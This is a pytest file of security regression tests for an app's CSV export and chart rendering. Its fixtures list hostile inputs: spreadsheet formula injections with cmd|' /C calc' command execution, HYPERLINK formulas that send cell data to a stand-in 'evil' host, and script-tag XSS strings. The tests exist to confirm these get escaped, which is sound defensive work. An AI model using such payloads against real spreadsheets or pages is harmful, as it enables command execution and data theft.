"""Security regressions of the app side (issue #9): keys, user demos, exports, LLM limits, charts.

Each test reproduces one finding of the hostile-input pass; see docs/SECURITY.md for the
threat model and which guarantee each test stands for.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from trustuqa_core.export import defuse_cell, to_csv

# -- item 3: spreadsheet formulas and line breaks in CSV exports ---------------------------
# 24 hostile one-cell values: formulas a spreadsheet would run, in ASCII and full-width forms,
# behind whitespace, and cells with CR / LF inside.
FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+1+HYPERLINK(\"http://evil/?\"&A1)",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://evil\",\"click\")",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " +1+2",
    "\u3000=1+1",             # ideographic space, then =
    "\uff1d1+1",              # full-width =
    "\uff0b1+1",              # full-width +
    "\uff0d2+3+cmd|' /C calc'!A0",  # full-width -
    "\uff20SUM(A1)",          # full-width @
    "\ufe661+1",              # small = (NFKC: =)
    "-cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
]
LINEBREAK_PAYLOADS = ["a\r\n=1+1", "line1\nline2", "cr\ronly", "=1\r\n+2\n-3\r@4"]
PAYLOADS = FORMULA_PAYLOADS + LINEBREAK_PAYLOADS
SAFE = ["-3", "+4", "-2.5", "1e-3", "-1,000", "Ann", "a=b", "", "x-1", "a - b"]


def test_there_are_24_payloads() -> None:
    assert len(PAYLOADS) == 24


@pytest.mark.parametrize("value", FORMULA_PAYLOADS)
def test_defuse_cell_defuses_every_formula_payload(value: str) -> None:
    out = defuse_cell(value)
    assert out.startswith("'"), out
    assert out[1:] == value  # shown unchanged after the quote


@pytest.mark.parametrize("value", SAFE)
def test_defuse_cell_keeps_numbers_and_plain_text(value: str) -> None:
    assert defuse_cell(value) == value


def test_to_csv_reads_back_one_row_per_payload_and_every_cell_is_defused() -> None:
    text = to_csv([{"cell": p} for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["cell"]
    assert len(rows) - 1 == len(PAYLOADS) == 24
    for cell, payload in zip((r[0] for r in rows[1:]), PAYLOADS, strict=True):
        assert cell in (payload, "'" + payload)
        assert cell[:1] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", cell
    # what a spreadsheet sees first in each cell, after any whitespace
    for cell in (r[0] for r in rows[1:]):
        assert cell.lstrip()[:1] not in "=+-@" or cell.startswith("'")


def test_to_csv_quotes_cells_with_a_lone_carriage_return() -> None:
    text = to_csv([{"a": "x\ry"}])
    assert '"x\ry"' in text


# -- item 14: plotly pseudo-HTML and pyvis labels --------------------------------------------
HOSTILE = '<a href="http://evil.example/">click</a> AT&T <script>alert(1)</script>'


def _figure_text(fig: object) -> str:
    return json.dumps(json.loads(fig.to_json()))  # type: ignore[attr-defined]


def test_charts_never_carry_data_controlled_html() -> None:
    from trustuqa_core.ui.charts import (
        metric_figure,
        relations_figure,
        timeline_figure,
        values_figure,
        vote_figure,
    )

    figures = [
        vote_figure([{"status": "answered", "answer": [HOSTILE]}]),
        values_figure([(HOSTILE, 1.0)], f"Inputs of Query1 (sum) = {HOSTILE}"),
        relations_figure([{"relation / column": HOSTILE, "facts": 3}]),
        metric_figure({HOSTILE: 2}, HOSTILE),
        timeline_figure([{"fact": HOSTILE, "source": HOSTILE, "status": "kept", "start": 1990,
                          "end": 1991, "condition_years": [1990]}]),
    ]
    for fig in figures:
        text = _figure_text(fig)
        assert "<a" not in text and "<script" not in text, text
        assert "\\u003ca" not in text.lower() and "\\u003cscript" not in text.lower()
        assert "&lt;a href" in text  # escaped once: plotly shows it as text


def test_evidence_graph_labels_are_escaped_exactly_once() -> None:
    from trustuqa_core import load_graph
    from trustuqa_core.execute import run_query
    from trustuqa_core.explain import evidence_graph, render_html

    g = load_graph(tables=[b"Company,Founded\nAT&T,1885\n<script>alert(1)</script>,1999\n"
                           b"<a href=x>link</a>,2001\n"])
    trace = run_query("Query1: \"get_information(relation='Company')\"", g)
    page = render_html(evidence_graph(trace))
    assert "alert(1)" in page  # the label is there...
    assert "<script>alert(1)" not in page  # ...but never as raw markup
    assert "AT&amp;T" not in page and "AT&amp;amp;T" not in page
    assert "AT\\u0026T" in page  # JSON-escaped in the script: shows as AT&T
    assert "<a href" not in page.lower()
    assert "popup.innerHTML" not in page  # titles are shown as text by vis-network
